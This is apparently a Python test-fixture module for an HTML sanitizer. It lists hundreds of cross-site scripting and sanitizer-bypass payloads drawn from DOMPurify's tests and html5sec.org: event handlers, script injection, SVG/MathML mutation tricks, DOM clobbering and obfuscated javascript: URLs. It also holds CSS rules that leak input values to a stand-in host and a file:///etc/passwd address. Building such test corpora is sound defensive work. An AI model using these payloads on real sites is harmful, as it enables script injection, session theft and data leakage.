"""What an author may write to have a script run, a page left, or something loaded; written for these tests.

The classes are those of DOMPurify's tests and of html5sec.org. `{run}` is the script of a payload, which marks it as run.
"""

from __future__ import annotations

from collections.abc import Iterator

RUN = "ran=1"
"""A script without signs that any place would have to escape."""
ELSEWHERE = "https://elsewhere.example"

_EVENTS = (
    *("<img src=x onerror={run}>", "<img src=x: onerror={run}//", "<img/src=x/onerror={run}>", "<img\nsrc=x\nonerror\n=\n{run}>"),
    *("<img src='x' onerror='{run}'>", '<img src="x" onerror="{run}">', "<img src=x onerror=`{run}`>", "<IMG SRC=x OnErRoR={run}>"),
    *("<img src=x\fonerror={run}>", "<img src=x onerror\x00={run}>", "<img \x00src=x onerror={run}>", "<\x00img src=x onerror={run}>"),
    *("<img src=x title=\"><img src=x onerror={run}>\">", "<img alt='` onerror={run}' src=x>", "<img src=`x` onerror={run}>"),
    *("<body onload={run}>", "<html onmouseover={run}>", "<svg onload={run}>", "<svg/onload={run}>", "<svg><g/onload={run}></g></svg>"),
    *("<input autofocus onfocus={run}>", "<select autofocus onfocus={run}>", "<textarea autofocus onfocus={run}></textarea>"),
    *("<a tabindex=0 autofocus onfocus={run}>x</a>", "<p contenteditable autofocus onfocus={run}>x</p>", "<b hidden=until-found onbeforematch={run}>x</b>"),
    *("<details open ontoggle={run}><summary>x</summary></details>", "<video src=x onerror={run}></video>", "<audio src=x onerror={run}></audio>"),
    *("<video><source onerror={run}></video>", "<marquee onstart={run}>x</marquee>", "<div style=animation-name:x onanimationstart={run}>x</div>"),
    *("<style>@keyframes x{}</style><b style=animation:x onanimationend={run}>x</b>", "<b style='transition:all 1s' ontransitionend={run}>x</b>"),
    *("<object data=x onerror={run}></object>", "<embed src=x onload={run}>", "<iframe onload={run}></iframe>", "<link rel=stylesheet href=x onerror={run}>"),
    *("<script onerror={run} src=x></script>", "<style onload={run}></style>", "<button popovertarget=y>x</button><p popover id=y onbeforetoggle={run}>x</p>"),
    *("<form><input type=image src=x onerror={run}></form>", "<picture><source srcset=x><img onerror={run} src=x></picture>", "<p onpointerover={run}>x</p>"),
    *("<body onpageshow={run}>", "<body onhashchange={run}>", "<bgsound src=x onload={run}>", "<track default src=x onerror={run}>", "<dialog open onclose={run}>x</dialog>"),
    *("<details/open/ontoggle='{run}'>", "<img src=x onerror=&#114;an=1>", "<img src=x onerror='\u0072an=1'>", "<img src=x:x onerror&#61;{run}>"),
    *("<ruby onclick={run}><rt oncopy={run}>x</rt></ruby>", "<table onload={run}><td onload={run}>x</td></table>", "<img src=x onerror={run} data-g=\x020\x03>"),
)
_SCRIPTS = (
    *("<script>{run}</script>", "<script src=data:,{run}></script>", "<SCRIPT>{run}</SCRIPT>", "<script\n>{run}</script\n>", "<script/x>{run}</script>"),
    *("<scr<script>ipt>{run}</scr</script>ipt>", "<<script>script>{run}<</script>/script>", "<script>{run}//", "<script x='>'>{run}</script>"),
    *("<script type=module>{run}</script>", "<script type=text/plain>x</script><script>{run}</script>", "<script><!--{run}\n--></script>"),
    *("</script><script>{run}</script>", "</title><script>{run}</script>", "</textarea><script>{run}</script>", "</style><script>{run}</script>"),
    *("\"><script>{run}</script>", "'><script>{run}</script>", "--><script>{run}</script>", "]]><script>{run}</script>", "?><script>{run}</script>"),
    *("</main></body></html><script>{run}</script>", "<script>x</script >{run}<script>{run}</script>", "<base href=javascript:/><script src=#{run}></script>"),
    *("<script type=importmap>{\"imports\":{\"x\":\"data:text/javascript,{run}\"}}</script>", "<script type=speculationrules>{}</script>"),
    *("<iframe srcdoc='<script>parent.{run}</script>'></iframe>", "<iframe srcdoc=&lt;script&gt;parent.{run}&lt;/script&gt;></iframe>"),
    *("<iframe src=javascript:parent.{run}></iframe>", "<frameset onload={run}><frame src=javascript:parent.{run}></frameset>", "<portal src=javascript:{run}>"),
    *("<object data=javascript:parent.{run}></object>", "<embed src=javascript:parent.{run}>", "<embed code=javascript:parent.{run}>", "<applet code=x></applet>"),
    *("<object data='data:text/html,<script>parent.{run}</script>'></object>", "<fencedframe src=javascript:{run}></fencedframe>"),
    *("<object><param name=src value=javascript:{run}></object>", "<link rel=import href='data:text/html,<script>{run}</script>'>"),
    *("<xml id=x><a><b>&lt;script>{run}</script></b></a></xml>", "<?xml-stylesheet href=javascript:{run}?>", "<!ENTITY x '<script>{run}</script>'>"),
    *("<![CDATA[<script>{run}</script>]]>", "<!DOCTYPE x [<!ENTITY y '<script>{run}</script>'>]>&y;", "<?php echo '<script>{run}</script>' ?>", "<% <script>{run}</script> %>"),
    *("{{ '<script>{run}</script>' }}", "{% raw %}<script>{run}</script>{% endraw %}", "${{run}}", "{{constructor.constructor('{run}')()}}"),
)
_NAMESPACES = (
    *("<svg><script>{run}</script></svg>", "<svg><script href=data:,{run} /></svg>", "<svg><script xlink:href=data:,{run}></script></svg>", "<svg><style><img src=x onerror={run}></style></svg>"),
    *("<svg><a xlink:href=javascript:{run}><text y=20>x</text></a></svg>", "<svg><a href=javascript:{run}><circle r=40 /></a></svg>"),
    *("<svg><animate onbegin={run} attributeName=x dur=1s></svg>", "<svg><set attributeName=onload to={run} /></svg>", "<svg><animate attributeName=href values=javascript:{run} /></svg>"),
    *("<svg><a id=z><animate attributeName=href to=javascript:{run} begin=0s fill=freeze /><text>x</text></a></svg>", "<svg><set attributeName=xlink:href begin=0s to=javascript:{run} /></svg>"),
    *("<svg><use href=data:image/svg+xml,<svg/onload={run}> /></svg>", "<svg><use xlink:href=x.svg#x /></svg>", "<svg><image href=x onerror={run} /></svg>", "<svg><feImage href=https://elsewhere.example/a.svg /></svg>"),
    *("<svg><foreignObject><img src=x onerror={run}></foreignObject></svg>", "<svg><desc><img src=x onerror={run}></desc></svg>", "<svg><title><img src=x onerror={run}></title></svg>"),
    *("<svg><handler xmlns:ev=http://www.w3.org/2001/xml-events ev:event=load>{run}</handler></svg>", "<svg><discard onbegin={run} /></svg>", "<svg><animateMotion onend={run} dur=.01s /></svg>"),
    *("<math href=javascript:{run}>x</math>", "<math><mtext href=javascript:{run}>x</mtext></math>", "<math><maction actiontype=statusline xlink:href=javascript:{run}>x</maction></math>"),
    *("<math><mi xlink:href=javascript:{run}>x</mi></math>", "<math><annotation-xml encoding=text/html><img src=x onerror={run}></annotation-xml></math>"),
    *("<math><annotation-xml encoding=application/xhtml+xml><script>{run}</script></annotation-xml></math>", "<math><semantics><annotation-xml><svg onload={run}></svg></annotation-xml></semantics></math>"),
    *("<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror={run}&gt;\">", "<math><mtext><table><mglyph><style><math><img src=x onerror={run}>"),
    *("<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={run}>", "<math><mtext><mglyph><svg><mtext><style><a title=\"</style><img src=x onerror={run}>\">"),
    *("<math><mtext><table><malignmark><style><img src=x onerror={run}></style>", "<math><mi><style><a title='</style><img src=x onerror={run}>'>x", "<math><style><img src=x onerror={run}></style></math>"),
    *("<svg></p><style><a id=\"</style><img src=x onerror={run}>\">", "<svg></br><style><a title=\"</style><img src=x onerror={run}>\">", "<svg><p><style><a title=\"</style><img src=x onerror={run}>\"></p></svg>"),
    *("<math></p><style><!--</style><img src=x onerror={run}//-->", "<svg><![CDATA[><img src=x onerror={run}>]]></svg>", "<svg><![CDATA[</svg><img src=x onerror={run}>]]>", "<math><![CDATA[<img src=x onerror={run}>]]></math>"),
    *("<svg><style>&lt;img src=x onerror={run}&gt;</style></svg>", "<svg><style><!--</style><img src=x onerror={run}>--></svg>", "<svg><title><style><a title='</style><img src=x onerror={run}>'></title></svg>"),
    *("<svg><desc><table><tr><td></desc><style><img src=x onerror={run}></style></svg>", "<svg><foreignObject><style><a title='</style></svg><img src=x onerror={run}>'></style></foreignObject></svg>"),
    *("<svg:svg xmlns:svg=http://www.w3.org/2000/svg><svg:script>{run}</svg:script></svg:svg>", "<x:script xmlns:x=http://www.w3.org/1999/xhtml>{run}</x:script>", "<svg viewBox='0 0 1 1' onload='{run}' xmlns='http://www.w3.org/2000/svg' />"),
)
_MUTATIONS = (
    *("<noscript><p title=\"</noscript><img src=x onerror={run}>\">", "<noscript><style></noscript><img src=x onerror={run}></style></noscript>", "<noscript><!--</noscript><img src=x onerror={run}>-->"),
    *("<style><a title=\"</style><img src=x onerror={run}>\">", "<style><style/><img src=x onerror={run}></style>", "<style></style\x00><img src=x onerror={run}></style>", "<style>*{}</style/><img src=x onerror={run}>"),
    *("<title><a title=\"</title><img src=x onerror={run}>\">", "<textarea><a title=\"</textarea><img src=x onerror={run}>\">", "<xmp><p title=\"</xmp><img src=x onerror={run}>\">"),
    *("<iframe><p title=\"</iframe><img src=x onerror={run}>\">", "<noembed><p title=\"</noembed><img src=x onerror={run}>\">", "<noframes><p title=\"</noframes><img src=x onerror={run}>\">"),
    *("<template><p title=\"</template><img src=x onerror={run}>\">", "<template><script>{run}</script></template>", "<div><template shadowrootmode=open><img src=x onerror={run}></template></div>", "<plaintext><img src=x onerror={run}>"),
    *("<listing>&lt;img src=x onerror={run}&gt;</listing>", "<xmp>&lt;img src=x onerror={run}&gt;</xmp>", "<pre>\n\n&lt;img src=x onerror={run}&gt;</pre>", "<listing>\n<img src=x onerror={run}></listing>"),
    *("<select><template><img src=x onerror={run}></template></select>", "<select><style></select><img src=x onerror={run}></style>", "<select><option><iframe></select><img src=x onerror={run}></iframe></option></select>"),
    *("<select><noembed></select><script>{run}</script>", "<select><xmp><script>{run}</script></xmp></select>", "<select><input><img src=x onerror={run}></select>", "<optgroup><svg><style><img src=x onerror={run}>"),
    *("<!--><img src=x onerror={run}>-->", "<!---><img src=x onerror={run}>-->", "<!--x--!><img src=x onerror={run}>-->", "<!-- --!><img src=x onerror={run}>", "<!-- <!-- --!><img src=x onerror={run}> -->"),
    *("<!--[if IE]><script>{run}</script><![endif]-->", "<![if !IE]><img src=x onerror={run}><![endif]>", "<!x><img src=x onerror={run}>", "<?x ><img src=x onerror={run}>?>", "</ ><img src=x onerror={run}>", "</x:y<img src=x onerror={run}>"),
    *("<! foo=\"><img src=x onerror={run}>\">", "<? foo=\"><img src=x onerror={run}>\">", "</ foo=\"><img src=x onerror={run}>\">", "<% foo><x foo=\"%><img src=x onerror={run}>\">", "<//><img src=x onerror={run}//>"),
    *("<a href=x`x`><img src=x onerror={run}>", "<a title=`><img src=x onerror={run}>`>x</a>", "<img alt=``onerror={run} src=x>", "<p title='`'><p title=\"`><img src=x onerror={run}>\">", "<a \"'><img src=x onerror={run}>"),
    *("<form><form><img src=x onerror={run}></form></form>", "<form><div></form><form><style></div><img src=x onerror={run}>", "<div><form></div><input></form><img src=x onerror={run}>", "<form action=javascript:{run}><input type=submit>"),
    *("<form id=f></form><button form=f formaction=javascript:{run}>x</button>", "<form><button formaction=javascript:{run}>x</button></form>", "<isindex type=image src=x onerror={run}>", "<isindex action=javascript:{run} type=submit>"),
    *("<table><a href=javascript:{run}>x<tr><td></a></td></table>", "<table><tr><style><td></style><img src=x onerror={run}></table>", "<table><caption><svg><style></caption><img src=x onerror={run}>", "<table background=javascript:{run}><td background=javascript:{run}>x"),
    *("<p><svg></p><img src=x onerror={run}>", "<b><p></b><img src=x onerror={run}></p>", "<a><a href=javascript:{run}>x</a></a>", "<nobr><svg><nobr><style><img src=x onerror={run}>", "<ruby><rt><svg><rp><style></ruby><img src=x onerror={run}>"),
    *("<b " + "x " * 600 + "><img src=x onerror={run}>", "<div>" * 520 + "<img src=x onerror={run}>", "<math>" * 60 + "<style><img src=x onerror={run}>", "<img src=x" + " " * 5000 + "onerror={run}>"),
    *("&lt;img src=x onerror={run}&gt;", "&amp;lt;img src=x onerror={run}&amp;gt;", "&#60;img src=x onerror={run}&#62;", "&#x3c;script&#x3e;{run}&#x3c;/script&#x3e;", "\\<img src=x onerror={run}>", "\uff1cimg src=x onerror={run}\uff1e"),
    *("\x02<img src=x onerror={run}>\x03", "\x020\x03", "\x04<img src=x onerror={run}>\x05", "&#2;0&#3;", "&#x02;0&#x03;", "<a data-g='&#2;0&#3;' href=javascript:{run}>x</a>", "\u2028<img src=x onerror={run}>\u2029", "\ufeff<img src=x onerror={run}>"),
)
_STYLES = (
    *("<p style=\"background:url(https://elsewhere.example/a)\">x</p>", "<p style=\"width:expression({run})\">x</p>", "<p style=\"behavior:url(x)\">x</p>", "<p style=\"-moz-binding:url(x#y)\">x</p>", "<p style=\"background:url(javascript:{run})\">x</p>"),
    *("<style>@import 'https://elsewhere.example/a.css';</style>", "<style>body{background:url(https://elsewhere.example/b)}</style>", "<link rel=stylesheet href=https://elsewhere.example/c.css>", "<style>@font-face{font-family:x;src:url(https://elsewhere.example/d)}*{font-family:x}</style>"),
    *("<p style='position:fixed;inset:0;z-index:99999'>x</p>", "<p class=panel id=g-content style=display:none>x</p>", "<style>input[value^=a]{background:url(https://elsewhere.example/e)}</style>", "<div style=\"--x:url(https://elsewhere.example/f);background:var(--x)\">x</div>"),
    *("<img srcset='https://elsewhere.example/g 1x' src=x>", "<img srcset=javascript:{run}>", "<picture><source srcset=https://elsewhere.example/h></picture>", "<img src=x sizes=1px srcset='x 1w, https://elsewhere.example/i 9999w'>", "<img lowsrc=javascript:{run} dynsrc=javascript:{run} src=x>"),
    *("<img src=x longdesc=javascript:{run} usemap=#m><map name=m><area href=javascript:{run} coords=0,0,9,9></map>", "<video poster=https://elsewhere.example/j></video>", "<audio src=https://elsewhere.example/k autoplay></audio>", "<input type=image src=https://elsewhere.example/l>"),
    *("<meta http-equiv=refresh content='0;url=https://elsewhere.example/m'>", "<meta http-equiv=refresh content='0;url=javascript:{run}'>", "<meta http-equiv=set-cookie content=x=y>", "<meta http-equiv=Content-Security-Policy content=\"default-src *\">", "<meta name=referrer content=unsafe-url>"),
    *("<base href=https://elsewhere.example/><a href=n>x</a>", "<base target=_top>", "<link rel=preload as=image href=https://elsewhere.example/o>", "<link rel=prefetch href=https://elsewhere.example/p>", "<link rel=dns-prefetch href=//elsewhere.example>", "<link rel=modulepreload href=https://elsewhere.example/q.js>"),
    *("<body background=https://elsewhere.example/r>", "<a ping=https://elsewhere.example/s href=/>x</a>", "<blockquote cite=https://elsewhere.example/t>x</blockquote>", "<img src=x crossorigin attributionsrc=https://elsewhere.example/u>", "<iframe src=https://elsewhere.example/v></iframe>", "<html manifest=https://elsewhere.example/w>"),
)
_CLOBBERS = (
    *("<form name=querySelector><input name=matches></form>", "<form id=main><input name=action><input name=elements></form>", "<img name=getElementById>", "<img name=querySelectorAll>", "<img name=body>", "<img id=createElement name=createElement>"),
    *("<a id=probes></a><a id=probes name=text href=x></a>", "<a id=documentElement></a>", "<object name=cookie></object>", "<embed name=head>", "<iframe name=document></iframe>", "<form name=forms></form><form name=location></form>"),
    *("<input name=q form=x>", "<form><input name=attributes><input name=nodeName><input name=parentNode></form>", "<output name=results data-results>x</output>", "<div data-search-dialog data-search-page data-filter>x</div>", "<p id=g-content>x</p>", "<dialog data-search-dialog open>x</dialog>"),
    *("<details data-contents open>x</details>", "<a data-search href=//elsewhere.example>x</a>", "<button data-scheme-switch>x</button>", "<div data-copy=x data-copied=y><pre><code>x</code></pre></div>", "<p class=term data-reading=x>x</p>", "<section class='letter entry' hidden>x</section>"),
    *("<slot name=x></slot>", "<p slot=x part=y is=z>x</p>", "<x-element onclick={run}></x-element>", "<p itemscope itemref=y nonce=z accesskey=/ inert>x</p>", "<label for=q>x</label>", "<keygen autofocus onfocus={run}>"),
)
_SCHEMES = (
    *("javascript:{run}", "JaVaScRiPt:{run}", " javascript:{run}", "\tjavascript:{run}", "java\tscript:{run}", "java\nscript:{run}", "java\rscript:{run}", "javascript\t:{run}", "\x01javascript:{run}", "java\x00script:{run}"),
    *("\x0cjavascript:{run}", "\u00a0javascript:{run}", "\ufeffjavascript:{run}", "\u200bjavascript:{run}", "java\u00adscript:{run}", "javascript\u200b:{run}", "javascript:{run}//https://x", "javascript://x%0a{run}", "javascript://x\n{run}"),
    *("&#106;avascript:{run}", "&#106avascript:{run}", "&#0000106avascript:{run}", "&#x6A;avascript:{run}", "&#x6aavascript:{run}", "&#X6Aavascript:{run}", "javascript&colon;{run}", "javascript&#58;{run}", "javascript&#58{run}", "javascript&#x3A;{run}"),
    *("java&Tab;script:{run}", "java&NewLine;script:{run}", "java&#9;script:{run}", "java&#x0A;script:{run}", "java&#13;script:{run}", "&#1;javascript:{run}", "&#14; javascript:{run}", "&nbsp;javascript:{run}", "java&#0;script:{run}", "&zwnj;javascript:{run}"),
    *("%6Aavascript:{run}", "javascript%3A{run}", "%6A%61%76%61%73%63%72%69%70%74%3A{run}", "java%0ascript:{run}", "%20javascript:{run}", "%01javascript:{run}", "java%09script%3a{run}", "%256aavascript:{run}", "&#37;6Aavascript:{run}"),
    *("\uff4aavascript:{run}", "javascript\uff1a{run}", "jav\u0430script:{run}", "\\6Aavascript:{run}", "javascript\\:{run}", "java\\script:{run}", "\\u006aavascript:{run}", "jscript:{run}", "livescript:{run}", "mocha:{run}"),
    *("data:text/html,<script>{run}</script>", "data:text/html;base64,PHNjcmlwdD5yYW49MTwvc2NyaXB0Pg==", "DATA:text/html,x", "data:image/svg+xml,<svg/onload={run}>", "data:text/xml,<x xmlns='http://www.w3.org/1999/xhtml'/>", "d&#97;ta:text/html,x", "data:,x"),
    *("vbscript:{run}", "VbScRiPt:{run}", "vbs:{run}", "blob:https://elsewhere.example/x", "filesystem:https://x/y", "file:///etc/passwd", "view-source:javascript:{run}", "feed:javascript:{run}", "jar:https://x!/y", "about:blank", "ws://x", "intent:x", "chrome:x"),
    *("//elsewhere.example/x", "\\\\elsewhere.example\\x", "/\\elsewhere.example", "///elsewhere.example", "\t//elsewhere.example", "https:elsewhere.example", "https:/\\elsewhere.example", "//elsewhere.example\\@x", "http://[::1", "http://%00", "https://a b", ":javascript:{run}"),
)
"""Addresses. Those to other hosts are allowed, and must not be loaded before somebody follows them."""


def _scripts(payloads: tuple[str, ...]) -> Iterator[str]:
    return (payload.replace("{run}", RUN) for payload in payloads)


HTML = (*_scripts(_EVENTS + _SCRIPTS + _NAMESPACES + _MUTATIONS + _STYLES + _CLOBBERS),)
ADDRESSES = (*_scripts(_SCHEMES),)
